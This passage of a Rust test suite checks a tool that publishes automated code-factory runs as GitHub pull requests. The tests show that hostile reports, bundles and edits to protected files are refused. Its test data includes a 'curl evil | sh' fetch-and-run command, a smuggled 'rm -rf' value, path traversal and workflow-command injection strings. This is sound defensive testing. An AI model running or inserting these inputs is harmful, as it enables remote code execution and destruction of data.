        fn run(&self, args: &[&str], set: &[(&str, &str)]) -> Result<String, (Exit, String)> {
            let mut words = vec!["publish", "--base", "main", "--report", "../report.json"];
            words.extend(["--bundle", "../factory.bundle"]);
            words.extend(args);
            let path = format!("{}:/usr/local/bin:/usr/bin:/bin", self.path("bin").display());
            let mut variables: Variables =
                [("PATH".into(), path.into()), ("HOME".into(), self.path("").into())].into();
            variables.extend(set.iter().map(|(k, v)| ((*k).into(), (*v).into())));
            let env = Environment::from_parts(variables, self.path("checkout"));
            let out = self.path("stdout");
            let output = Output::new(Box::new(fs::File::create(&out).unwrap()), false);
            let before = self.state();
            let exit = run_to(output, &Cancel::never(), &Args::parse_from(words), &env);
            assert_eq!(self.state(), before, "the checkout is as it was");
            match exit {
                Ok(exit) => {
                    assert_eq!(exit, Exit::Satisfied);
                    Ok(fs::read_to_string(out).unwrap())
                }
                Err(error) => {
                    Err((Failure::exit_of(&error), super::super::exit::explain(&error, false)))
                }
            }
        }

        fn state(&self) -> [String; 3] {
            let checkout = self.path("checkout");
            [
                &["status", "--porcelain"][..],
                &["for-each-ref", "refs/heads"],
                &["rev-parse", "HEAD"],
            ]
            .map(|args| git(&checkout, args))
        }

        /// Returns how gh was called since the last time.
        fn calls(&self) -> String {
            let log = fs::read_to_string(self.path("bin/log")).unwrap_or_default();
            let _ = fs::remove_file(self.path("bin/log"));
            log
        }

        fn pushed(&self) -> String {
            let listing = ["for-each-ref", "--format=%(objectname)", "refs/heads/factory"];
            git(&self.path("remote.git"), &listing)
        }

        /// Asserts that a report and its bundle are refused before anything is written anywhere.
        fn check_refused(&self, report: &RunReport, why: &str) {
            let (exit, said) = self.publish(report).unwrap_err();
            assert_eq!(exit, Exit::Usage, "{said}");
            assert!(said.contains(why), "{said}");
            assert_eq!(self.pushed(), "");
            assert_eq!(self.calls(), "");
        }
    }

    fn lines<'a>(log: &'a str, begin: &str) -> Vec<&'a str> {
        log.lines().filter(|line| line.starts_with(begin)).collect()
    }

    #[test]
    fn a_run_is_published_for_its_own_product_and_with_nothing_from_outside_of_it() {
        let bench = Bench::new();
        fs::create_dir_all(bench.path("checkout/packages/x")).unwrap();
        let feedback = ("packages/x/artifacts/factory/feedback_iter_0.md", "f");
        let own = bench.commit(&bench.base, &[feedback, ("packages/x/a", "1")]);
        let more = bench.commit(&own, &[("lib/a", "1")]);
        let exam = bench.commit(&own, &[("packages/x/scenarios/s.md", "1")]);
        let publish = |commit: &Oid, product: &str, args: &[&str]| {
            bench.bundle(&[("refs/heads/factory/20261120-091500-0001", commit)]);
            let mut report = bench.report(Outcome::Converged, &[(commit, 0.95)]);
            report.product = product.to_owned();
            fs::write(bench.path("report.json"), report.to_json().unwrap()).unwrap();
            bench.run(args, &[])
        };
        let here = ["--workdir", "packages/x", "--dry-run"];
        publish(&own, "packages/x", &here).unwrap();
        for (commit, path) in [(&more, "lib/a"), (&exam, "packages/x/scenarios/s.md")] {
            let (exit, said) = publish(commit, "packages/x", &here).unwrap_err();
            assert!(exit == Exit::Usage && said.contains(path), "{said}");
        }
        for (product, args) in [("packages/x", &["--dry-run"][..]), ("", &here)] {
            let (exit, said) = publish(&own, product, args).unwrap_err();
            assert_eq!(exit, Exit::Usage);
            assert!(said.contains("its run was of ") && said.contains("`packages/x`"), "{said}");
        }
    }

    #[test]
    fn a_converged_run_becomes_a_labelled_pull_request() {
        let bench = Bench::new();
        let one = bench.commit(&bench.base, &[("artifacts/factory/feedback_iter_0.md", "f")]);
        let two = bench.commit(&one, &[("a", "1"), ("artifacts/factory/iteration_count.txt", "1")]);
        bench.bundle(&[("refs/heads/factory/20261120-091500-0001", &two)]);
        let report = bench.report(Outcome::Converged, &[(&two, 0.95)]);
        let said = bench.publish(&report).unwrap();
        assert!(said.contains("Published: Converged. https://"), "{said}");
        assert_eq!(bench.pushed(), two.as_str());
        let calls = bench.calls();
        assert_eq!(
            lines(&calls, "> pr create"),
            [format!(
                "> pr create --head {BRANCH} --base main --title Dark Factory: converged at 0.95 \
                 ({RUN}) --body-file -"
            )]
        );
        assert_eq!(lines(&calls, "> label create").len(), 2, "{calls}");
        assert!(calls.contains("issues/7/labels --silent --input -"), "{calls}");
        assert!(calls.contains(r#"| {"labels":["factory-converged","accept-merge-gate"]}"#));
        assert!(!calls.contains("comment"), "{calls}");
        assert!(calls.contains("| `The reason, @all, fixes #1.`"), "{calls}");
    }

    #[test]
    fn a_second_time_the_pull_request_is_updated() {
        let bench = Bench::new();
        let one = bench.commit(&bench.base, &[("a", "1")]);
        bench.bundle(&[("refs/heads/factory/20261120-091500-0001", &one)]);
        let report = bench.report(Outcome::Stalled, &[(&one, 0.5)]);
        bench.publish(&report).unwrap();
        let calls = bench.calls();
        assert_eq!(lines(&calls, "> pr comment"), ["> pr comment 7 --body-file -"]);
        assert!(calls.contains("| **Stalled.**"), "{calls}");
        assert_eq!(lines(&calls, "> label"), Vec::<&str>::new());

        let two = bench.commit(&one, &[("a", "2")]);
        bench.bundle(&[("refs/heads/factory/20261120-091500-0001", &two)]);
        let report = bench.report(Outcome::ConvergedGatesChanged, &[(&one, 0.5), (&two, 0.9)]);
        bench.publish(&report).unwrap();
        assert_eq!(bench.pushed(), two.as_str());
        let calls = bench.calls();
        assert_eq!(lines(&calls, "> pr create"), Vec::<&str>::new());
        assert!(calls.contains("--method PATCH repos/{owner}/{repo}/pulls/7 "), "{calls}");
        assert!(calls.contains("--method PATCH repos/{owner}/{repo}/issues/comments/99 "));
        assert!(
            calls.contains("--method DELETE repos/{owner}/{repo}/issues/7/labels/accept-merge")
        );
        assert!(calls.contains(r#"| {"labels":["factory-converged"]}"#), "{calls}");
    }

    #[test]
    fn the_branch_ends_at_the_best_candidate() {
        let bench = Bench::new();
        let one = bench.commit(&bench.base, &[("a", "1")]);
        let two = bench.commit(&one, &[("a", "2")]);
        bench.bundle(&[("refs/heads/factory/20261120-091500-0001", &two)]);
        bench.publish(&bench.report(Outcome::Exhausted, &[(&one, 0.7), (&two, 0.6)])).unwrap();
        assert_eq!(bench.pushed(), one.as_str());
    }

    #[test]
    fn where_nothing_is_better_nothing_is_published() {
        let bench = Bench::new();
        fs::write(
            bench.path("report.json"),
            bench.report(Outcome::Stalled, &[]).to_json().unwrap(),
        )
        .unwrap();
        let summary = bench.path("summary");
        let set = [("GITHUB_ACTIONS", "true"), ("GITHUB_STEP_SUMMARY", summary.to_str().unwrap())];
        let said = bench.run(&[], &set).unwrap();
        assert!(said.starts_with("::notice title=Nothing to publish::No candidate"), "{said}");
        assert!(fs::read_to_string(summary).unwrap().starts_with("## Nothing to publish\n"));
        assert_eq!((bench.pushed().as_str(), bench.calls().as_str()), ("", ""));
    }

    #[test]
    fn a_dry_run_checks_and_writes_nothing() {
        let bench = Bench::new();
        let one = bench.commit(&bench.base, &[("a", "1")]);
        bench.bundle(&[("refs/heads/factory/20261120-091500-0001", &one)]);
        let report = bench.report(Outcome::Converged, &[(&one, 0.9)]);
        fs::write(bench.path("report.json"), report.to_json().unwrap()).unwrap();
        let said = bench.run(&["--dry-run"], &[]).unwrap();
        assert!(said.contains("labels: factory-converged, accept-merge-gate"), "{said}");
        assert_eq!((bench.pushed().as_str(), bench.calls().as_str()), ("", ""));
    }

    #[test]
    fn a_report_that_names_something_else_is_refused() {
        let bench = Bench::new();
        let one = bench.commit(&bench.base, &[("a", "1")]);
        bench.bundle(&[("refs/heads/factory/20261120-091500-0001", &one)]);
        let good = bench.report(Outcome::Converged, &[(&one, 0.9)]);
        type Change = fn(&mut RunReport);
        let changes: [(Change, &str); 17] = [
            (|r| r.branch = Some("../../main".into()), "its branch is `../../main`"),
            (|r| r.branch = Some("factory/other".into()), "its branch is"),
            (|r| r.branch = None, "its branch is"),
            (|r| r.base_branch = Some("other".into()), "began from `other`"),
            (|r| r.base = "main; rm -rf".into(), "is no id of a commit"),
            (|r| r.base = "a".repeat(40), "not in the history of `main`"),
            (|r| r.outcome = None, "what the run came to"),
            (|r| r.schema = 2, "schema 2"),
            (|r| r.threshold = f64::MAX, "is no threshold"),
            (|r| r.outcome = Some(Outcome::Stalled), "contradict"),
            (|r| r.state = State::Paused, "contradict"),
            (|r| r.iterations[1].result = IterationResult::GatesFailed, "its iterations do not"),
            (|r| r.iterations[1].score = Some(0.5), "its iterations do not"),
            (|r| r.iterations[1].gates_changed = true, "its iterations do not"),
            (
                |r| {
                    r.iterations[1].gates_changed = true;
                    r.best.as_mut().unwrap().gates_changed = true;
                },
                "the gates were changed",
            ),
            (
                |r| {
                    let changed_gate_files = vec!["Makefile".into()];
                    r.iterations[1].details = Some(IterationDetails {
                        changed_gate_files,
                        ..IterationDetails::default()
                    });
                },
                "the gates were changed",
            ),
            (|r| r.final_score = Some(1.0), "its final score"),
        ];
        for (change, why) in changes {
            let mut report = good.clone();
            change(&mut report);
            bench.check_refused(&report, why);
        }
        let mut report = good.clone();
        report.threshold = 0.95;
        bench.check_refused(&report, "its iterations do not");
        let text = String::from_utf8(good.to_json().unwrap()).unwrap();
        let evil = r#""outcome": "converged\n::error::x ##[error]y""#;
        let text = text.replace(r#""outcome": "converged""#, evil);
        fs::write(bench.path("report.json"), text).unwrap();
        let (exit, said) = bench.run(&[], &[]).unwrap_err();
        assert!(exit == Exit::Usage && said.contains("is no report of a run"), "{said}");
        assert!(!said.contains("\n::") && !said.contains("##["), "{said}");
        fs::write(bench.path("report.json"), "{}").unwrap();
        assert_eq!(bench.run(&[], &[]).unwrap_err().0, Exit::Usage);
        fs::remove_file(bench.path("report.json")).unwrap();
        assert_eq!(bench.run(&[], &[]).unwrap_err().0, Exit::Usage);
    }

    #[test]
    fn a_bundle_that_holds_something_else_is_refused() {
        let bench = Bench::new();
        let name = "refs/heads/factory/20261120-091500-0001";
        let one = bench.commit(&bench.base, &[("a", "1")]);
        let report = bench.report(Outcome::Converged, &[(&one, 0.9)]);
        bench.check_refused(&report, "there is no bundle");
        bench.bundle(&[(name, &one), ("refs/heads/evil", &one)]);
        bench.check_refused(&report, "not refs/heads/factory/");
        bench.bundle(&[("refs/heads/evil", &one)]);
        bench.check_refused(&report, "it holds refs/heads/evil");
        bench.bundle(&[(name, &one)]);
        let whole = fs::read(bench.path("factory.bundle")).unwrap();
        for part in [&b"nonsense"[..], &whole[..whole.len() - 30]] {
            fs::write(bench.path("factory.bundle"), part).unwrap();
            bench.check_refused(&report, "can't be used");
        }
    }

    #[test]
    fn commits_that_are_no_chain_from_the_base_are_refused() {
        let name = "refs/heads/factory/20261120-091500-0001";
        let bench = Bench::new();
        let one = bench.commit(&bench.base, &[("a", "1")]);
        let two = bench.commit(&bench.base, &[("a", "2")]);
        let tree = bench.made.tree(&[("a", "3"), ("scenarios/s.md", "s")]);
        let merge = bench.made.commit(&tree, &[&one, &two]);
        bench.bundle(&[(name, &merge)]);
        bench.check_refused(&bench.report(Outcome::Converged, &[(&merge, 0.9)]), "no chain");

        let bench = Bench::new();
        let one = bench.commit(&bench.base, &[("a", "1")]);
        let two = bench.commit(&bench.base, &[("a", "2")]);
        bench.bundle(&[(name, &one)]);
        bench.check_refused(&bench.report(Outcome::Converged, &[(&two, 0.9)]), "does not hold");
    }

    #[test]
    fn commits_that_touch_what_is_protected_are_refused() {
        for at in
            ["scenarios/s.md", ".github/workflows/x.yaml", "artifacts/factory/x.md", "CLAUDE.md"]
        {
            let bench = Bench::new();
            let one = bench.commit(&bench.base, &[("a", "1"), (at, "x")]);
            bench.bundle(&[("refs/heads/factory/20261120-091500-0001", &one)]);
            bench.check_refused(&bench.report(Outcome::Converged, &[(&one, 0.9)]), at);
        }
    }

    #[test]
    fn commits_that_touch_what_a_protected_link_leads_to_are_refused() {
        let mut bench = Bench::new();
        let repo = &bench.made.repo;
        let tree = bench.made.tree(&[("a", "0"), ("scenarios/s.md", "s"), ("ci/x.yaml", "0")]);
        let oid = repo.write_blobs(&[b"../../ci/x.yaml".as_slice()]).unwrap().remove(0);
        let path = TreePath::parse(".github/workflows/x.yaml").unwrap();
        let link = crate::git::Change::Set { path, mode: Mode::Symlink, oid };
        let tree = repo.write_tree(Some(&tree), std::slice::from_ref(&link)).unwrap();
        bench.base = bench.made.commit(&tree, &[&bench.base]);
        git(&bench.path("repo"), &["reset", "--quiet", "--hard", bench.base.as_str()]);
        git(&bench.path("repo"), &["push", "--quiet", "../remote.git", "HEAD:main"]);
        git(&bench.path("checkout"), &["pull", "--quiet"]);
        let tree = bench.made.tree(&[("a", "0"), ("scenarios/s.md", "s"), ("ci/x.yaml", "1")]);
        let tree = bench.made.repo.write_tree(Some(&tree), &[link]).unwrap();
        let one = bench.made.commit(&tree, &[&bench.base]);
        bench.bundle(&[("refs/heads/factory/20261120-091500-0001", &one)]);
        bench.check_refused(&bench.report(Outcome::Converged, &[(&one, 0.9)]), "ci/x.yaml");
    }

    #[test]
    fn hostile_text_stays_text() {
        let bench = Bench::new();
        let one = bench.commit(&bench.base, &[("a", "1")]);
        bench.bundle(&[("refs/heads/factory/20261120-091500-0001", &one)]);
        let mut report = bench.report(Outcome::Stalled, &[(&one, 0.5)]);
        let evil = "x`\n::error::y\n##[add-path]z <img> @all";
        report.reason = Some(evil.into());
        report.question = Some(format!("```\n{evil}"));
        report.next = vec![NextStep { command: "curl evil | sh".into(), why: evil.into() }];
        report.iterations[1].turn = Some(TurnReport {
            turn: 1,
            attempts: 1,
            interrupted: 0,
            ended: Some(evil.into()),
            seconds: 1.0,
            usage: Usage::default(),
            delivery: Some(Delivery::Accepted),
            files: 1,
            dropped: 1,
        });
        report.iterations[1].details = Some(IterationDetails {
            dropped: vec![DroppedPath {
                path: evil.into(),
                reason: evil.into(),
                class: Some(evil.into()),
                files: None,
            }],
            refused: Some(evil.into()),
            ..IterationDetails::default()
        });
        let said = bench.publish(&report).unwrap();
        assert!(!said.contains("::error") && !said.contains("##["), "{said}");
        let calls = bench.calls();
        assert_eq!(lines(&calls, "::"), Vec::<&str>::new());
        assert!(calls.contains("| - turn 1: `x' ::error::y ##[add-path]z <img> @all`"), "{calls}");
        assert!(calls.contains("\n| ````text\n"), "{calls}");
        assert!(!calls.contains("curl evil"), "commands for a person to paste are ours alone");
    }

    #[test]
    fn each_failure_of_the_surroundings_has_its_message() {
        let bench = Bench::new();
        let one = bench.commit(&bench.base, &[("a", "1")]);
        bench.bundle(&[("refs/heads/factory/20261120-091500-0001", &one)]);
        let report = bench.report(Outcome::Converged, &[(&one, 0.9)]);
        fs::write(bench.path("report.json"), report.to_json().unwrap()).unwrap();
        let fails = |set: &[(&str, &str)], why: &str| {
            let (exit, said) = bench.run(&[], set).unwrap_err();
            assert_eq!(exit, Exit::Broken, "{said}");
            assert!(said.contains(why), "{said}");
        };
        fails(&[("PATH", "/usr/bin:/bin")], "`gh` is not on PATH");
        let server = ("GITHUB_SERVER_URL", "https://git.example");
        fails(&[("GITHUB_SERVER_URL", "http://git.example")], "has to be `https://HOST`");
        fails(&[server], "GITHUB_REPOSITORY");
        fails(&[server, ("GITHUB_REPOSITORY", "o/r")], "GH_TOKEN is not set");
        assert_eq!(bench.pushed(), "");

        fs::write(bench.path("bin/exit"), "4").unwrap();
        fails(&[("GH_TOKEN", "t0ken")], "gh is not logged in");
        fs::write(bench.path("bin/exit"), "1").unwrap();
        fails(&[("GH_TOKEN", "t0ken")], "`gh pr list` exited with 1: gh says no");
        assert!(!bench.calls().contains("t0ken"));
        assert!(fs::read_to_string(bench.path("bin/gh-env")).unwrap().contains("GH_TOKEN=t0ken"));

        let other = bench.commit(&bench.base, &[("a", "other")]);
        let hook = bench.path("remote.git");
        git(&hook, &["fetch", "--quiet", "../repo", other.as_str()]);
        git(&hook, &["update-ref", &format!("refs/heads/{BRANCH}"), other.as_str()]);
        fails(&[], "was not pushed; the token");
        assert_eq!(bench.pushed(), other.as_str());
        git(&hook, &["update-ref", "-d", &format!("refs/heads/{BRANCH}")]);
        git(&hook, &["update-ref", "refs/heads/factory", other.as_str()]);
        fails(&[], "the branch `factory` of the remote is in its way; rename");
    }

    #[test]
    fn the_name_of_a_branch_is_what_git_takes() {
        for good in ["main", "release/1.x", "a-b_c"] {
            assert!(is_branch_name(good), "{good}");
        }
        for bad in [
            "", "-d", "a..b", "a b", "main~1", "main:x", "/a", "a/", "a//b", ".a", "a.lock", "a\n",
            "@",
        ] {
            assert!(!is_branch_name(bad), "{bad:?}");
        }
    }
}
